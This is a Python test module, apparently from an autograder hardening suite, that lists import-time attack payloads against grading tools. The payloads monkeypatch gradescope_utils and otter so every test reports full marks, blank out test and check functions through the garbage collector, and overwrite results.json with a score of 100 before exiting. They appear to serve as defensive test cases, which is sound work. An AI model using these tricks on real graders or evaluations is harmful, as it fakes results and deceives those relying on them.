"""Attacks on what runs the checks elsewhere: the runners of other tools, and checks that share a process with the submission."""

from tests.golden.attacks.doors import at_import, greedy, in_methods

TOOLS = {
    "generous reporter": greedy(
        "makes gradescope_utils write the full weight for every test",
        (1,),
        at_import(
            """
            try:
                from gradescope_utils.autograder_utils.json_test_runner import JSONTestResult
                build = JSONTestResult.buildResult

                def generous(self, test, err=None):
                    entry = build(self, test)
                    entry["score"] = entry.get("max_score", 0)
                    return entry

                JSONTestResult.buildResult = generous
                for frame_result in __import__("gc").get_objects():
                    if isinstance(frame_result, list) and frame_result and isinstance(frame_result[0], dict):
                        for entry in frame_result:
                            if isinstance(entry, dict) and "max_score" in entry:
                                entry["score"] = entry["max_score"]
            except Exception:
                pass
            """
        ),
    ),
    "generous test files": greedy(
        "makes otter's test files always pass",
        (1,),
        at_import(
            """
            try:
                from otter.test_files.abstract_test import TestCaseResult
                from otter.test_files.exception_test import ExceptionTestFile
                from otter.test_files.ok_test import OKTestFile

                def passed(self, environment):
                    self.test_case_results = [TestCaseResult(case, "passed", True) for case in self.test_cases]

                OKTestFile.run = ExceptionTestFile.run = passed
            except Exception:
                pass
            """
        ),
    ),
    "emptied checks": greedy(
        "finds the functions of the checks among all objects and removes their code",
        (1, 17),
        at_import(
            """
            import gc

            def empty():
                for thing in gc.get_objects():
                    if type(thing) is type(empty) and (thing.__name__.startswith("test_") or "check" in vars(thing)):
                        if thing.__code__.co_argcount == 1 and not thing.__code__.co_freevars:
                            thing.__code__ = (lambda only: None).__code__

            empty()
            """,
            in_methods("empty()\nraise NotImplementedError"),
        ),
    ),
    "results written twice": greedy(
        "writes results.json while a runner has it open, and exits before the runner writes to it",
        (7,),
        at_import(
            """
            import os
            for path in ("@RESULTS@/results.json", "../results/results.json", "/autograder/results/results.json"):
                try:
                    with open(path, "w") as file:
                        file.write('{"score": 100, "tests": []}')
                except OSError:
                    pass
            os._exit(0)
            """
        ),
    ),
}
